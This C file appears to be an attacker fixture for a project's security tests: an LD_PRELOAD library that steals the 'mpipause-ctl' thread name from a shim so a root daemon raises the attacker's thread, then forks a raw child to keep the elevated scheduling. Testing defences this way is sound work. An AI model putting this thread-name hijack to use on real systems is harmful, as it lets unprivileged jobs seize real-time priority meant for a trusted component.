/* namethief: an attacker's LD_PRELOAD library for the security tier (row
 * N4 of docs/security.md). Loaded into a rank of the attacker's own job
 * beside the shim, it takes the name of the shim's control thread: it
 * renames the shim's thread and names one of its own "mpipause-ctl", so a
 * root daemon that picks a thread by that name picks the attacker's. That
 * thread watches its own scheduling; the moment it is given real-time
 * policy or a negative niceness it forks a child (a raw fork: no atfork
 * handler runs) that keeps whatever it inherited and waits to be killed.
 * It writes what it saw to $NAMETHIEF_DIR/<pid>: "raised POLICY NICE
 * CHILD" once raised, "named TID" once it holds the name. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define CTL_NAME "mpipause-ctl"

static void note(const char *fmt, long a, long b, long c)
{
	const char *dir = getenv("NAMETHIEF_DIR");
	char path[512], line[128];
	if (!dir)
		return;
	snprintf(path, sizeof path, "%s/%d", dir, (int)getpid());
	int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (fd < 0)
		return;
	int n = snprintf(line, sizeof line, fmt, a, b, c);
	if (write(fd, line, (size_t)n) < 0)
		(void)0;
	close(fd);
}

/* rename_shim renames every other thread called CTL_NAME; returns how many. */
static int rename_shim(pid_t self)
{
	char path[256], comm[64];
	int n = 0;
	DIR *d = opendir("/proc/self/task");
	if (!d)
		return 0;
	struct dirent *e;
	while ((e = readdir(d))) {
		int tid = atoi(e->d_name);
		if (tid <= 0 || tid == self)
			continue;
		snprintf(path, sizeof path, "/proc/self/task/%d/comm", tid);
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		ssize_t r = read(fd, comm, sizeof comm - 1);
		close(fd);
		comm[r > 0 ? r : 0] = 0;
		if (strncmp(comm, CTL_NAME, strlen(CTL_NAME)) != 0)
			continue;
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (write(fd, "shim-ctl", 8) == 8)
			n++;
		close(fd);
	}
	closedir(d);
	return n;
}

static void *thief(void *arg)
{
	(void)arg;
	pid_t self = (pid_t)syscall(SYS_gettid);
	struct timespec ms = {0, 1000000};
	int renamed = 0;
	pthread_setname_np(pthread_self(), CTL_NAME);
	note("named %ld\n", self, 0, 0);
	for (;;) {
		if (!renamed && rename_shim(self) > 0) {
			renamed = 1;
			note("renamed shim %ld\n", self, 0, 0);
		}
		int policy = sched_getscheduler(0);
		errno = 0;
		int nice = getpriority(PRIO_PROCESS, 0);
		if (policy != SCHED_OTHER || (errno == 0 && nice < 0)) {
			long child = syscall(SYS_fork);
			if (child == 0) {
				for (;;)
					pause();
			}
			note("raised %ld %ld %ld\n", policy, nice, child);
			return NULL;
		}
		nanosleep(&ms, NULL);
	}
}

__attribute__((constructor)) static void start(void)
{
	pthread_t t;
	if (!getenv("NAMETHIEF_DIR"))
		return;
	if (pthread_create(&t, NULL, thief, NULL) == 0)
		pthread_detach(t);
}
